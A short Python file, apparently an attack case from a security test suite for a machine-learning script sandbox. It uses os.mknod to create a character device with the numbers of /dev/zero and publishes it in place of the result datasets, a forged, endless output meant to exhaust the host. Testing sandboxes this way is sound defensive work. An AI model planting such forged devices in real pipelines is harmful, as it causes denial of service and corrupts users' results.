"""Swaps a result for a device from which zeros come for ever."""

import os
import stat

from attack import attack, publish_forged


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    def device(path):
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))

    publish_forged(result_dataset=device, result_dataset2=device)
